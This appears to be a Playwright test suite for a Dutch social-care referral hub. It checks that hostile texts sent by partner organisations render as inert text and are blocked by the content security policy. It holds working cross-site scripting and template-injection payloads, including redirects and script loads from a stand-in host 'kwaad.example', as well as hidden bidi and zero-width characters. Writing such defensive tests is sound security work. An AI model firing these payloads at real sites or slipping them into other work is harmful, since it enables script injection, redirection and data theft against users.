"""Hostile texts of partners in a real browser: text on every page and by every push, and nothing of them runs."""

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
from sqlalchemy import update

from hub.api.blueprint import new_token
from hub.models import Case
from hub.services.people import identity, proofs
from schemas.identifiers import derived_id
from tests.browser.real_hub import RealHub
from tests.builders import referral_body
from tests.integration.callers import someone
from tests.personas import SHARED
from workers.demo_people import PASSWORD

pytestmark = pytest.mark.browser

BAD = SHARED / "bad-inputs"
OWN = (
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<svg onload=alert(3)><animate onbegin=alert(4)></svg>",
    "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
    "<a href='javascript:alert(6)'>klik</a> <math><mtext></form><form action=//kwaad.example>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(7)&lt;/script&gt; &#x3c;b&#x3e;",
    "<!--<template><style>*{display:none}</style>",
    "-->]]>'\"`</textarea></title></option><noscript>",
    "<base href=https://kwaad.example/><meta http-equiv=refresh content='0;url=https://kwaad.example/'>",
)
ARMED = (
    "[onclick],[onload],[onerror],[onmouseover],[onbegin],script:not([src]),iframe,object,embed,base,"
    "meta[http-equiv=refresh],a[href^='javascript:'],[src='x'],style"
)
# Before any script of the page: what a policy stops, and what hostile scripts would call.
WATCH = """
window.stopped = []; window.struck = 0;
window.x = () => { window.struck += 1; };
document.addEventListener('securitypolicyviolation', (seen) => window.stopped.push(seen.effectiveDirective));
"""


def published_texts() -> tuple[str, ...]:
    """Give what stands for people to read in the published bad inputs: narrative, note and formulas."""
    bundle = json.loads((BAD / "fhir-script-in-narrative.json").read_text(encoding="utf-8"))
    task = bundle["entry"][0]["resource"]
    rows = (BAD / "csv-formulas.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    formulas = [row.split(";", 5)[5].strip('"').strip() for row in rows]
    return (task["text"]["div"], task["note"][0]["text"], *formulas)


@pytest.fixture
def texts() -> tuple[str, ...]:
    if not BAD.is_dir():
        pytest.skip("the collected bad inputs are not on this computer")
    return (*published_texts(), *OWN)


class Pages:
    """Browsers of several people, and what happened in them that never should."""

    def __init__(self, browser: Browser, real: RealHub) -> None:
        self._browser, self._real = browser, real
        self._contexts: list[BrowserContext] = []
        self.opened: list[Page] = []
        self.dialogs: list[str] = []
        self.elsewhere: list[str] = []

    def open(self, username: str, path: str) -> Page:
        context = self._browser.new_context(viewport={"width": 1440, "height": 900})
        context.add_init_script(WATCH)
        self._contexts.append(context)
        page = context.new_page()
        self.opened.append(page)
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda asked: asked.url.startswith(self._real.address) or self.elsewhere.append(asked.url))
        page.goto(f"{self._real.address}/inloggen")
        page.fill("#gebruikersnaam", username)
        page.fill("#wachtwoord", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_load_state()
        page.goto(self._real.address + path)
        return page

    def close(self) -> None:
        for context in self._contexts:
            context.close()


@pytest.fixture
def pages(browser: Browser, real: RealHub) -> Iterator[Pages]:
    found = Pages(browser, real)
    yield found
    found.close()


def call(real: RealHub, by: str, path: str, body: Any, **headers: str) -> httpx.Response:
    """Call the API over the network as an organisation's system; bytes go as they are."""
    with real.hub.store.reading() as reading:
        proof = proofs.of_secret(identity.secrets_of(reading, by)[0])
    with real.running.web.app.app_context():
        token = new_token(by, proof)
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    return httpx.post(
        f"{real.address}/api/v1{path}",
        content=content,
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}", **headers},
        timeout=60,
    )


def send(real: RealHub, **changes: Any) -> dict[str, Any]:
    """Send a referral to De Spoel over the API."""
    ground = {"basis": "public_task", "law": "participatiewet", "purpose": "guidance"}
    body = referral_body(to="de-spoel", life_domains=["work_education"], ground=ground, **changes)
    made = call(real, "wi-tilburg", "/referrals", body, **{"Idempotency-Key": derived_id("key", json.dumps(body))})
    assert made.status_code == 201, made.text
    answer: dict[str, Any] = made.json()
    return answer


def hostile_case(real: RealHub, texts: tuple[str, ...]) -> dict[str, Any]:
    """Send a referral of which every text is hostile, the name too, for a client of Marloes."""
    made = send(
        real,
        client=someone(family_name="Kwaad<script>alert(8)</script>", given_name="<img src=x onerror=alert(9)>"),
        reason="\n".join(texts),
        client_words="\n".join(reversed(texts)),
        strengths=list(texts),
    )
    with real.hub.store.writing() as work:
        work.session.execute(
            update(Case)
            .where(Case.id == made["case_id"])
            .values(regisseur_id=derived_id("person", "marloes"))
            .execution_options(synchronize_session=False)
        )
    step(real, made, "de-spoel", "receive")
    return made


def step(real: RealHub, referral: dict[str, Any], by: str, event: str, **said: str) -> None:
    told = call(real, by, f"/referrals/{referral['id']}/events", {"event": event, **said})
    assert told.status_code in (200, 201), told.text


def shows(page: Page, *texts: str) -> None:
    for text in texts:
        expect(page.locator("body")).to_contain_text(text, timeout=20_000)


def nothing_struck(pages: Pages) -> None:
    """No dialog, no call, no request to elsewhere, no element made of a text, and nothing for the policy to stop."""
    for page in pages.opened:
        armed = page.locator(ARMED).evaluate_all("all => all.map(one => one.outerHTML.slice(0, 200))")
        assert armed == [], page.url
        assert page.evaluate("[window.stopped, window.struck]") == [[], 0], page.url
    assert (pages.dialogs, pages.elsewhere) == ([], [])


def test_hostile_texts_are_text_on_every_page_of_who_may_see_them(
    real: RealHub, pages: Pages, texts: tuple[str, ...]
) -> None:
    made = hostile_case(real, texts)
    step(real, made, "de-spoel", "accept")
    case, referral = f"/inwoners/{made['case_id']}", f"/verwijzingen/{made['id']}"
    shows(pages.open("tom", referral), "Kwaad<script>alert(8)</script>", *texts)
    shows(pages.open("tom", "/werkvoorraad"), "<img K.")  # a list names people by first name and initial
    pages.open("tom", case)
    shows(pages.open("marloes", referral), "Kwaad<script>alert(8)</script>", *texts)
    marloes = pages.open("marloes", case)
    shows(marloes, "Kwaad<script>alert(8)</script>")
    pages.open("marloes", "/werkvoorraad")
    form = pages.open("marloes", f"/verwijzingen/nieuw?inwoner={made['case_id']}")
    form.check("input[value=work_education]")
    form.check("input[value=orientatie-groen]")
    form.fill("textarea[name=reason]", "\n".join(texts))
    form.fill("textarea[name=client_words]", "\n".join(texts))
    form.fill("#strengths-eigen", texts[0])
    form.check("input[name=basis][value=public_task]")
    shows(form, *texts)
    expect(form.locator("[data-voorbeeld] [data-veld=reason]")).to_contain_text(texts[-1], timeout=20_000)
    nothing_struck(pages)


def test_hostile_texts_are_text_in_every_push_too(real: RealHub, pages: Pages, texts: tuple[str, ...]) -> None:
    made = hostile_case(real, texts)
    marloes, tom = (pages.open(who, f"/inwoners/{made['case_id']}") for who in ("marloes", "tom"))
    for page in (marloes, tom):
        expect(page.locator("[data-live]")).to_be_visible(timeout=20_000)
    began = position(tom)
    for place, text in enumerate(texts):
        by, event = (("de-spoel", "ask"), ("wi-tilburg", "answer"))[place % 2]
        step(real, made, by, event, note=text)
        shows(marloes, text)
    expect(tom.locator("[data-case]")).to_have_attribute("data-position", str(began + len(texts)), timeout=20_000)
    nothing_struck(pages)


def position(page: Page) -> int:
    return int(page.locator("[data-case]").get_attribute("data-position") or 0)


def test_a_hostile_payload_is_text_before_the_operator(real: RealHub, pages: Pages, texts: tuple[str, ...]) -> None:
    payload = (BAD / "fhir-script-in-narrative.json").read_bytes().replace(b"@@CANARY_URL@@", b"https://kwaad.example/")
    brought = call(real, "ggz-de-leij", "/intake/ggz-de-leij", payload, **{"Content-Type": "application/fhir+json"})
    assert brought.status_code in (200, 202, 422)
    page = pages.open("bas", "/berichten")
    shows(page, "GGZ De Leij")
    nothing_struck(pages)


def test_letters_that_hide_or_reorder_come_no_further_than_the_door(real: RealHub, texts: tuple[str, ...]) -> None:
    body = json.loads((BAD / "json-bidi-and-zero-width.json").read_text(encoding="utf-8"))
    refused = call(real, "wi-tilburg", "/referrals", body, **{"Idempotency-Key": "bidi"})
    assert refused.status_code == 422
    assert {"client.family_name", "client_words"} <= {error["field"] for error in refused.json()["errors"]}
    made = hostile_case(real, texts)
    for hidden in ("\u202e", "\u2066", "\u200b", "\u00ad"):
        said = {"event": "ask", "note": f"om{hidden}gekeerd"}
        assert call(real, "de-spoel", f"/referrals/{made['id']}/events", said).status_code == 422


def test_a_script_that_got_into_a_page_all_the_same_does_not_run(real: RealHub, pages: Pages) -> None:
    """The second wall: a page into which somebody wrote scripts, with the headers that the hub gave it."""
    forged = (
        "<script>window.struck += 1; alert('inline')</script><script nonce='geraden'>alert('nonce')</script>"
        "<script src='https://kwaad.example/x.js'></script><img src=x onerror=\"window.x(); alert('handler')\">"
        "<form action='https://kwaad.example/'></form><base href='https://kwaad.example/'>"
    )

    def with_forgery(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", forged + "</main>"))

    page = pages.open("marloes", "/werkvoorraad")
    page.route("**/inwoners/*", with_forgery)
    page.goto(f"{real.address}/inwoners/{real.karin()}")
    page.wait_for_function("window.stopped.length >= 5")
    assert page.evaluate("window.struck") == 0
    assert pages.dialogs == []
    assert {"script-src-elem", "script-src-attr", "base-uri"} <= set(page.evaluate("window.stopped"))
    with pytest.raises(Exception, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<b>x</b>'")
    with pytest.raises(Exception, match=r"eval|unsafe-eval|TrustedScript"):
        page.evaluate("() => { const s = document.createElement('script'); s.text = 'window.struck += 1'; }")
